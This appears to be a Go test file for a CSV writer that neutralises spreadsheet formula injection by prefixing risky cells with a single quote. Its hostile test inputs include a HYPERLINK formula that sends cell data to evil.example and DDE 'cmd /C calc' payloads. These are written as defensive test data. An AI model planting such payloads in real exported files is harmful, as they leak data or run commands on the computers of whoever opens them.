package csvsafe

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

// read parses CSV the way a spreadsheet importer would, for the assertions.
func read(t *testing.T, b []byte) [][]string {
	t.Helper()
	recs, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil {
		t.Fatalf("written CSV does not parse: %v\n%s", err, b)
	}
	return recs
}

// formula reports whether a spreadsheet would evaluate the cell.
func formula(cell string) bool {
	if cell == "" {
		return false
	}
	switch cell[0] {
	case '=', '+', '-', '@', '\t', '\r':
		return true
	}
	for _, p := range []string{"＝", "＋", "－", "＠"} {
		if len(cell) >= len(p) && cell[:len(p)] == p {
			return true
		}
	}
	return false
}

func TestHostileCellsAreNeutralised(t *testing.T) {
	hostile := []string{
		`=HYPERLINK("http://evil.example/?d="&A1,"Click")`,
		`+cmd|' /C calc'!A0`,
		`-2+3+cmd|' /C calc'!A0`,
		`@SUM(1+1)*cmd|' /C calc'!A0`,
		"\t=1+1",
		"\r=1+1",
		"＝1+1",
		"-12.50 and some words",
		"=-12.50",
	}
	var buf bytes.Buffer
	w := NewWriter(&buf, []bool{false, true})
	for _, h := range hostile {
		// The same cell in a text column and in a numeric column.
		if err := w.Write([]string{h, h}); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	recs := read(t, buf.Bytes())
	if len(recs) != len(hostile) {
		t.Fatalf("got %d records, want %d", len(recs), len(hostile))
	}
	for i, rec := range recs {
		for col, cell := range rec {
			if formula(cell) {
				t.Errorf("column %d: %q was written as %q, which a spreadsheet runs as a formula", col+1, hostile[i], cell)
			}
			// encoding/csv's reader drops a carriage return inside a quoted
			// cell, so compare without it.
			if want := "'" + strings.ReplaceAll(hostile[i], "\r", ""); cell != want {
				t.Errorf("column %d: %q was written as %q: want the text kept after a single quote", col+1, hostile[i], cell)
			}
		}
	}
}

func TestNumbersInNumericColumnsStayNumbers(t *testing.T) {
	var buf bytes.Buffer
	w := NewWriter(&buf, []bool{true, true, false})
	rows := [][]string{
		{"-12.50", "12500.00", "-12.50"},
		{"0", "-0.01", "+44 1785 223121"},
	}
	for _, r := range rows {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	recs := read(t, buf.Bytes())
	if recs[0][0] != "-12.50" || recs[0][1] != "12500.00" || recs[1][1] != "-0.01" {
		t.Errorf("numbers in numeric columns changed: %q", recs)
	}
	// The same text in a text column is neutralised: it is not a number there.
	if recs[0][2] != "'-12.50" || recs[1][2] != "'+44 1785 223121" {
		t.Errorf("text cells not neutralised: %q", recs)
	}
}

func TestPlainCellsUnchanged(t *testing.T) {
	for _, c := range []string{"", "Asist", "Citizens Advice, Burton", "a=b", "1-2", "'quoted", "£12,500"} {
		if got := Neutralise(c); got != c {
			t.Errorf("Neutralise(%q) = %q, want it unchanged", c, got)
		}
	}
}

func TestIsNumber(t *testing.T) {
	for s, want := range map[string]bool{
		"12": true, "-12.50": true, "0.5": true, "": false, "-": false, "1e3": false,
		"12.": false, ".5": false, "1,000": false, "=1": false, "--1": false,
	} {
		if got := IsNumber(s); got != want {
			t.Errorf("IsNumber(%q) = %v, want %v", s, got, want)
		}
	}
}

func FuzzWrite(f *testing.F) {
	for _, s := range []string{"=1+1", "-12.50", "plain", "\t@x", "a\"b\nc"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		var buf bytes.Buffer
		w := NewWriter(&buf, []bool{false, true})
		if err := w.Write([]string{s, s}); err != nil {
			return
		}
		if err := w.Flush(); err != nil {
			return
		}
		recs, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
		if err != nil || len(recs) != 1 {
			return // encoding/csv cannot read back some cells (a lone \r); not ours to judge
		}
		if formula(recs[0][0]) {
			t.Errorf("text cell %q written as formula %q", s, recs[0][0])
		}
		if formula(recs[0][1]) && !IsNumber(recs[0][1]) {
			t.Errorf("numeric cell %q written as formula %q", s, recs[0][1])
		}
	})
}
